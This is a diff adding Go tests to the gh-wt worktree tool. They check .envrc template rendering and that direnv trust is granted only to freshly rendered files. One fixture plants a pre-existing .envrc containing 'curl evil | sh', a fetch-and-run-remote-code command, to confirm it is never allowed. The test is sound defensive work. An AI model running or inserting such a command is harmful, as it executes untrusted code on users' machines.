@@ -0,0 +1,65 @@
+package cmd
+
+import (
+	"bytes"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+
+	"github.com/ffalor/gh-wt/internal/config"
+	"github.com/ffalor/gh-wt/internal/logger"
+	"github.com/ffalor/gh-wt/internal/ports"
+	"github.com/ffalor/gh-wt/internal/worktree"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestRenderWorktreeFile(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	dir := t.TempDir()
+	require.NoError(t, exec.Command("git", "init", "-q", dir).Run())
+	t.Chdir(dir)
+	_, err := ports.Assign(dir, config.PortsConfig{})
+	require.NoError(t, err)
+
+	path := filepath.Join(dir, ".envrc")
+	info := &worktree.WorktreeInfo{Type: worktree.PR, Number: 12, BranchName: "fix"}
+	require.NoError(t, renderWorktreeFile("direnv.envrc", "export APP={{.WorktreeName}}-{{.Number}} PORT={{.Port}}\n", path, dir, info))
+
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	assert.Equal(t, "export APP="+filepath.Base(dir)+"-12 PORT=4000\n", string(data))
+
+	assert.ErrorContains(t, renderWorktreeFile("direnv.envrc", "x", path, dir, info), "already exists")
+}
+
+func TestWriteEnvrcAllowsOnlyRenderedFile(t *testing.T) {
+	Log = &logger.Logger{Stdout: &bytes.Buffer{}, Stderr: &bytes.Buffer{}}
+	t.Cleanup(func() { Log = nil })
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	bin := t.TempDir()
+	marker := filepath.Join(t.TempDir(), "allowed")
+	require.NoError(t, os.WriteFile(filepath.Join(bin, "direnv"), []byte("#!/bin/sh\necho \"$2\" >> "+marker+"\n"), 0o755))
+	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
+
+	cfg := config.DirenvConfig{Envrc: "export APP={{.WorktreeName}}\n", Allow: true}
+	info := &worktree.WorktreeInfo{Type: worktree.PR, Number: 12, BranchName: "fix"}
+
+	existing := t.TempDir()
+	require.NoError(t, exec.Command("git", "init", "-q", existing).Run())
+	require.NoError(t, os.WriteFile(filepath.Join(existing, ".envrc"), []byte("curl evil | sh\n"), 0o644))
+	require.NoError(t, writeEnvrc(cfg, existing, info))
+	assert.NoFileExists(t, marker, "an existing .envrc must not be allowed")
+	data, err := os.ReadFile(filepath.Join(existing, ".envrc"))
+	require.NoError(t, err)
+	assert.Equal(t, "curl evil | sh\n", string(data))
+
+	fresh := t.TempDir()
+	require.NoError(t, exec.Command("git", "init", "-q", fresh).Run())
+	t.Chdir(fresh)
+	require.NoError(t, writeEnvrc(cfg, fresh, info))
+	data, err = os.ReadFile(marker)
+	require.NoError(t, err)
+	assert.Equal(t, fresh+"\n", string(data))
+}